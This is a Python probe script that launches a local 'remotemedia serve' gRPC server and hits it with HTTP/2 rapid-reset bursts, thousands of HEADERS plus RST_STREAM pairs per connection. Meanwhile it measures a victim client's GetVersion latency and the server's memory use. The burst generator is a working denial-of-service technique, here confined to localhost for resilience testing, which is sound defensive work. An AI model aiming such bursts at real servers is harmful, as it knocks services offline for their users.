"""Probe `remotemedia serve` with rapid-reset bursts while another client calls GetVersion.

Starts a real server process, connects a victim that calls GetVersion back to back on
its own connection, then has ``--attackers`` connections each write one burst of
``--pairs`` HEADERS + RST_STREAM pairs (StreamPipeline) in a single write. Prints the
victim's latency (p50 and max) before and during the bursts, and the server's RSS
before and at its peak.

    python3 scripts/probe_rapid_reset.py [--transport native|grpclib] [--attackers 3]
"""

from __future__ import annotations

import argparse
import re
import statistics
import subprocess
import sys
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import trio

from remotemedia.transport.messages import frame
from remotemedia.v1 import execution_pb2 as epb

GET_VERSION = "/remotemedia.v1.PipelineExecutionService/GetVersion"
STREAMING = "/remotemedia.v1.StreamingPipelineService/StreamPipeline"


def _headers(path: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def _client() -> h2.connection.H2Connection:
    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    return client


def _rss_mb(pid: int) -> float:
    text = Path(f"/proc/{pid}/status").read_text()
    match = re.search(r"VmRSS:\s+(\d+) kB", text)
    return int(match.group(1)) / 1024 if match else 0.0


async def _victim(port: int, latencies: list[tuple[float, float]], stop: trio.Event) -> None:
    """GetVersion after GetVersion on one connection; (start time, seconds) of each."""
    request = frame(epb.VersionRequest(client_version="v1").SerializeToString())
    async with await trio.open_tcp_stream("127.0.0.1", port) as socket:
        client = _client()
        await socket.send_all(client.data_to_send())
        while not stop.is_set():
            started = time.perf_counter()
            stream_id = client.get_next_available_stream_id()
            client.send_headers(stream_id, _headers(GET_VERSION))
            client.send_data(stream_id, request, end_stream=True)
            await socket.send_all(client.data_to_send())
            ended = False
            while not ended:
                data = await socket.receive_some(65536)
                if not data:
                    return
                for event in client.receive_data(data):
                    if isinstance(event, h2.events.StreamEnded) and event.stream_id == stream_id:
                        ended = True
                    elif isinstance(event, h2.events.DataReceived):
                        client.acknowledge_received_data(
                            event.flow_controlled_length, event.stream_id
                        )
                await socket.send_all(client.data_to_send())
            latencies.append((started, time.perf_counter() - started))
            await trio.sleep(0.005)


def _burst(pairs: int) -> bytes:
    """A connection's preface, then ``pairs`` HEADERS + RST_STREAM."""
    client = _client()
    for _ in range(pairs):
        stream_id = client.get_next_available_stream_id()
        client.send_headers(stream_id, _headers(STREAMING))
        client.reset_stream(stream_id)
    return client.data_to_send()


async def _attack(port: int, burst: bytes) -> None:
    """One write of ``burst``, then read until the server closes."""
    async with await trio.open_tcp_stream("127.0.0.1", port) as socket:
        try:
            await socket.send_all(burst)
            with trio.move_on_after(10):
                while await socket.receive_some(65536):
                    pass
        except trio.BrokenResourceError:
            pass


async def probe(port: int, pid: int, bursts: list[bytes]) -> str:
    """The victim's latency and the server's RSS, before and during the bursts."""
    latencies: list[tuple[float, float]] = []
    stop = trio.Event()
    rss = [_rss_mb(pid)]
    async with trio.open_nursery() as nursery:
        nursery.start_soon(_victim, port, latencies, stop)
        await trio.sleep(1.0)
        calm = len(latencies)
        rss_before = _rss_mb(pid)
        attacked = time.perf_counter()

        async def sample_rss() -> None:
            while True:
                rss.append(_rss_mb(pid))
                await trio.sleep(0.05)

        nursery.start_soon(sample_rss)
        async with trio.open_nursery() as attacks:
            for burst in bursts:
                attacks.start_soon(_attack, port, burst)
        await trio.sleep(1.0)
        stop.set()
        nursery.cancel_scope.cancel()
    before = [seconds for _, seconds in latencies[:calm]]
    during = [seconds for started, seconds in latencies if started >= attacked]
    during += [seconds for started, seconds in latencies if started < attacked][-1:]
    return (
        f"victim GetVersion p50 {statistics.median(before) * 1000:.1f} ms before, during: "
        f"p50 {statistics.median(during) * 1000:.1f} ms, max {max(during) * 1000:.1f} ms "
        f"({len(during)} calls); server RSS {rss_before:.0f} MB before, peak {max(rss):.0f} MB"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--transport", default="native", choices=("native", "grpclib"))
    parser.add_argument("--attackers", type=int, default=3)
    parser.add_argument("--pairs", type=int, default=7000)
    args = parser.parse_args()
    # Built first: building them while the victim runs would delay its own loop.
    bursts = [_burst(args.pairs) for _ in range(args.attackers)]
    command = [sys.executable, "-m", "remotemedia", "serve", "--bind", "127.0.0.1:0"]
    command += ["--transport", args.transport]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    try:
        assert process.stdout is not None
        line = process.stdout.readline()
        port = int(re.search(r"127\.0\.0\.1:(\d+)", line).group(1))  # type: ignore[union-attr]
        result = trio.run(probe, port, process.pid, bursts)
        alive = process.poll() is None
        print(
            f"{args.transport}: {args.attackers} bursts of {args.pairs} pairs; {result}; "
            f"server alive: {alive}"
        )
    finally:
        process.terminate()
        process.wait(timeout=20)


if __name__ == "__main__":
    main()
